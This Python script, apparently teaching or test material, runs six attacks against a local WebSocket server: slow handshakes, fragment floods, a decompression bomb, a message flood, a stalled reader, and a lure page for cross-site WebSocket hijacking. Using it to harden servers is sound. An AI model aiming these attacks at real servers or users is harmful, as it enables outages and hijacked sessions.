"""Six attacks on a WebSocket server on this machine: attack.py NAME PORT [SECONDS]

Each prints a line once it is under way and a line of JSON with how it ended, at the latest after
SECONDS. Aim it at your own server only.
"""

import http.server
import json
import select
import socket
import sys
import time
import urllib.request
from contextlib import suppress

from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect

ORIGIN = "http://127.0.0.1:8000"  # a program says what it likes
FIN, TEXT = 0x80, 0x01


def enter(port: int, **options: object) -> ClientConnection:
    """Log in as mallory, who has an account, and join the room."""
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/login?user=mallory") as answer:
        cookie = answer.headers["Set-Cookie"].partition(";")[0]
    headers = {"Cookie": cookie}
    return connect(
        f"ws://127.0.0.1:{port}/",
        origin=ORIGIN,
        additional_headers=headers,
        proxy=None,
        close_timeout=1,
        **options,
    )


def under_way(where: str = "") -> None:
    print(f"under way{where}", flush=True)


def ending(connection: ClientConnection, seconds: float, expected: int) -> dict[str, object]:
    """Read until the room has heard all, or the server ends it; 1006 is an end without a code."""
    until = time.monotonic() + seconds
    heard = 0
    try:
        while heard < expected:
            message = connection.recv(timeout=max(0.0, until - time.monotonic()))
            heard += json.loads(message)["type"] == "say"
    except TimeoutError:
        pass
    except ConnectionClosed as end:
        return {"heard": heard, "ended": end.rcvd.code if end.rcvd else 1006}
    return {"heard": heard, "ended": None}


# --8<-- [start:handshake]
def handshake(port: int, seconds: float, number: int = 200) -> dict[str, object]:
    """Open connections, and send a byte of each handshake now and then."""
    request = f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Slow: ".encode() + b"x" * 2000
    sockets = [socket.create_connection(("127.0.0.1", port)) for _ in range(number)]
    under_way()
    until = time.monotonic() + seconds
    for at in range(len(request)):
        for one in list(sockets):
            try:
                one.sendall(request[at : at + 1])
            except OSError:
                sockets.remove(one)
        if not sockets or time.monotonic() > until:
            break
        time.sleep(0.1)
    return {"opened": number, "held": len(sockets)}


# --8<-- [end:handshake]


# --8<-- [start:fragments]
def fragments(port: int, seconds: float, number: int = 2000, times: int = 50) -> dict[str, object]:
    """Send messages of blanks, a frame of seven bytes for each."""
    said = json.dumps({"type": "say", "text": "made of fragments"}).encode()
    key = bytes(4)  # a mask that changes nothing
    blank = bytes([0, 0x80 | 1]) + key + b" "
    first = bytes([TEXT, 0x80 | 1]) + key + b" "
    last = bytes([FIN, 0x80 | len(said)]) + key + said
    message = first + blank * (number - 2) + last
    with enter(port) as connection:
        under_way()
        with suppress(OSError):
            for _ in range(times):
                connection.socket.sendall(message)
        return ending(connection, seconds, times)


# --8<-- [end:fragments]


# --8<-- [start:bomb]
def bomb(port: int, seconds: float, size: int = 16 * 2**20) -> dict[str, object]:
    """Send a message that is large only when it is decompressed. Blanks before JSON are valid."""
    with enter(port) as connection:
        under_way()
        if not connection.protocol.extensions:
            return {"heard": 0, "ended": "the server does not decompress"}
        connection.send(" " * size + json.dumps({"type": "say", "text": "boom"}))
        return ending(connection, seconds, 1)


# --8<-- [end:bomb]


# --8<-- [start:flood]
def flood(port: int, seconds: float, number: int = 5000) -> dict[str, object]:
    """Say as much as the connection takes."""
    with enter(port, max_queue=None) as connection:  # it reads, and does not slow down
        under_way()
        with suppress(ConnectionClosed):
            for sent in range(number):
                connection.send(json.dumps({"type": "say", "text": f"flood {sent}"}))
        return ending(connection, seconds, number)


# --8<-- [end:flood]


# --8<-- [start:reader]
def reader(port: int, seconds: float) -> dict[str, object]:
    """Join, and never read: what is said waits at the server."""
    tcp = socket.socket()
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    tcp.connect(("127.0.0.1", port))
    with enter(port, sock=tcp, max_queue=1, ping_interval=None) as connection:
        under_way()
        ended = select.poll()
        ended.register(connection.socket, 0)  # hang-ups and errors are always told
        return {"dropped": bool(ended.poll(seconds * 1000))}


# --8<-- [end:reader]


# --8<-- [start:hijack]
PAGE = """<!doctype html>
<title>You have won</title>
<h1>You have won a prize</h1>
<pre></pre>
<script type="module">
  const say = (text) => document.querySelector("pre").append(text + "\\n");
  const socket = new WebSocket("ws://127.0.0.1:%d/"); // the browser adds the visitor's cookie
  socket.addEventListener("message", ({ data }) => {
    say("stolen: " + data);
    if (JSON.parse(data).type === "hello") {
      socket.send(JSON.stringify({ type: "say", text: "said by a page that you visited" }));
    }
  });
  socket.addEventListener("close", ({ code }) => say("refused: " + code));
</script>
"""


def hijack(port: int, seconds: float) -> dict[str, object]:
    """Serve a page at another origin. Log in first: open http://127.0.0.1:PORT/login?user=ada"""

    class Foreign(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write((PAGE % port).encode())

    with http.server.HTTPServer(("127.0.0.1", 0), Foreign) as server:
        under_way(f": open http://127.0.0.1:{server.server_port}/")
        server.timeout = 1
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            server.handle_request()
    return {}


# --8<-- [end:hijack]

ATTACKS = {one.__name__: one for one in (handshake, fragments, bomb, flood, reader, hijack)}


def main() -> None:
    if len(sys.argv) not in (3, 4) or sys.argv[1] not in ATTACKS or not sys.argv[2].isdecimal():
        sys.exit(f"usage: attack.py {'|'.join(ATTACKS)} PORT [SECONDS]")
    seconds = float(sys.argv[3]) if len(sys.argv) == 4 else 10.0
    print(json.dumps(ATTACKS[sys.argv[1]](int(sys.argv[2]), seconds)), flush=True)


if __name__ == "__main__":
    main()
